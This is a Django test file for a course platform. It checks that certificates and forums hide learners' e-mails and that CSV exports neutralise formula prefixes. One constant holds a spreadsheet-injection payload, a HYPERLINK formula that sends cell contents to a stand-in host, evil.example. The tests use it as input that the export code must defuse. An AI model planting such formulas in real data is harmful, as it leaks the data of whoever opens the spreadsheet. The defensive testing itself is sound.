"""Issue 11 item 6: personal data is not exposed. Certificate verification and forums show the
learner's name, never their e-mail (a name is required on first sign-in); exported CSVs neutralise
formula prefixes (=, +, -, @, tab, CR)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from django.core import mail
from django.test import Client
from django_tenants.utils import schema_context

from courses import services
from courses.models import Certificate
from mooc_platform import storage
from mooc_platform.accounts.models import User
from mooc_platform.spreadsheets import csv_cell_neutralise
from tenants.exports import export_build
from tenants.models import TenantExport
from tests.courses.helpers import PASSWORD, answers_for, quiz_of
from tests.factories import CourseFactory, UserFactory
from tests.helpers import api_client, client_for, unique


def _certified(course, learner) -> Certificate:
    services.enrollment_create(course=course, user=learner)
    services.lesson_complete(lesson=course.modules.get().lessons.get(kind="text"), user=learner)
    attempt = services.quiz_attempt_start(lesson=quiz_of(course), user=learner)
    services.quiz_attempt_submit(attempt=attempt, user=learner, answers=answers_for(quiz_of(course), right=2))
    return Certificate.objects.get(course=course, user=learner)


def test_a_certificate_of_a_member_without_a_name_never_shows_the_email(demo_host, in_demo) -> None:
    course = CourseFactory(author=UserFactory(role="instructor"))
    learner = UserFactory(full_name="")
    certificate = _certified(course, learner)
    assert certificate.holder_name == f"Member {learner.pk}"
    # A certificate issued before names were required holds the e-mail: verification shows the name.
    Certificate.objects.filter(pk=certificate.pk).update(holder_name=learner.email)
    for name, shown in (("", None), ("Ada Lovelace", "Ada Lovelace")):
        User.objects.filter(pk=learner.pk).update(full_name=name)
        page = Client(HTTP_HOST=demo_host).get(f"/certificates/verify/{certificate.code}/")
        api = api_client(demo_host).get(f"/api/v1/certificates/verify/{certificate.code}/")
        assert page.status_code == 200 and api.status_code == 200
        assert learner.email.encode() not in page.content and learner.email.encode() not in api.content
        assert api.json()["holder_name"] == shown
        assert re.search(r'data-testid="certificate-holder">([^<]*)<', page.content.decode()).group(1) == \
            (shown or "—")


def test_forums_show_names_never_emails(demo_host, in_demo) -> None:
    instructor = UserFactory(role="instructor", full_name="Ivy Instructor")
    course = CourseFactory(author=instructor)
    named, nameless = UserFactory(full_name="Nora Named"), UserFactory(full_name="")
    for learner in (named, nameless):
        services.enrollment_create(course=course, user=learner)
        post = services.post_create(course=course, author=learner, body=f"Hello from {learner.pk}")
        services.post_report(post=post, reporter=learner, reason="spam")
    threads = client_for(demo_host, named.email).get(f"/api/v1/courses/{course.pk}/posts/")
    assert threads.status_code == 200
    assert sorted(t["author"] for t in threads.json()) == ["Learner", "Nora Named"]  # nameless: the role
    reports = client_for(demo_host, instructor.email).get("/api/v1/moderation/reports/").json()["results"]
    ours = [r for r in reports if r["course"] == course.title]
    assert sorted(r["reporter"] for r in ours) == sorted(["Nora Named", f"Member {nameless.pk}"])
    for who, path in ((named, f"/courses/{course.slug}/discussion/"), (instructor, "/teach/moderation/")):
        page = Client(HTTP_HOST=demo_host)
        page.force_login(who)
        content = page.get(path).content
        assert b"Nora Named" in content
        for learner in (named, nameless):
            if learner != who:  # the header shows the viewer their own address, and only theirs
                assert learner.email.encode() not in content, (path, learner.email)
    assert threads.content.count(b"@") == 0


def test_a_name_is_required_on_first_sign_in(demo, demo_host, in_demo) -> None:
    client = Client(HTTP_HOST=demo_host)
    user = UserFactory(full_name="", email=f"{unique('nameless')}@example.org")
    # A member registered without a name (CSV import, API) is asked for it before any page.
    assert client.post("/login/", {"username": user.email, "password": PASSWORD}).status_code == 302
    home = client.get("/courses/")
    assert (home.status_code, home["Location"]) == (302, "/my/profile/?next=/courses/")
    assert client.get("/my/profile/").status_code == 200
    assert client.post("/my/profile/", {"full_name": " ", "language": "en"}).status_code == 400
    saved = client.post("/my/profile/", {"full_name": "Hedy Lamarr", "language": "en", "next": "/courses/"})
    assert (saved.status_code, saved["Location"]) == (302, "/courses/")
    assert client.get("/courses/").status_code == 200
    assert User.objects.get(pk=user.pk).full_name == "Hedy Lamarr"
    mail.outbox.clear()


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_prefix_is_neutralised(value: str) -> None:
    assert csv_cell_neutralise(value) == "'" + value
    assert csv_cell_neutralise("Ada") == "Ada" and csv_cell_neutralise(-1) == -1


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_analytics_csv_neutralises_formulas(demo_host, in_demo) -> None:
    instructor = UserFactory(role="instructor")
    course = CourseFactory(author=instructor)
    learner = UserFactory(full_name=HOSTILE, email=f"{unique('csv')}@example.org")
    services.enrollment_create(course=course, user=learner)
    client = Client(HTTP_HOST=demo_host)
    client.force_login(instructor)
    rows = list(csv.reader(io.StringIO(client.get(f"/manage/analytics/{course.pk}.csv").content.decode())))
    assert rows[1][:2] == [learner.email, "'" + HOSTILE]


def test_the_tenant_export_csv_neutralises_formulas_and_the_json_keeps_raw_values(demo) -> None:
    with schema_context(demo.schema_name):
        learner = UserFactory(full_name=HOSTILE, email=f"{unique('export')}@example.org")
    export = TenantExport.objects.create(tenant=demo, requested_by_email="admin@demo.test")
    export = export_build(export_id=export.pk)
    archive = zipfile.ZipFile(io.BytesIO(storage.object_get(key=export.s3_key)))
    users = list(csv.DictReader(io.TextIOWrapper(archive.open("data/accounts_user.csv"), encoding="utf-8")))
    row = next(r for r in users if r["email"] == learner.email)
    assert row["full_name"] == "'" + HOSTILE
    assert row["id"] == str(learner.pk)
    raw = next(r for r in json.loads(archive.read("data/accounts_user.json")) if r["email"] == learner.email)
    assert raw["full_name"] == HOSTILE
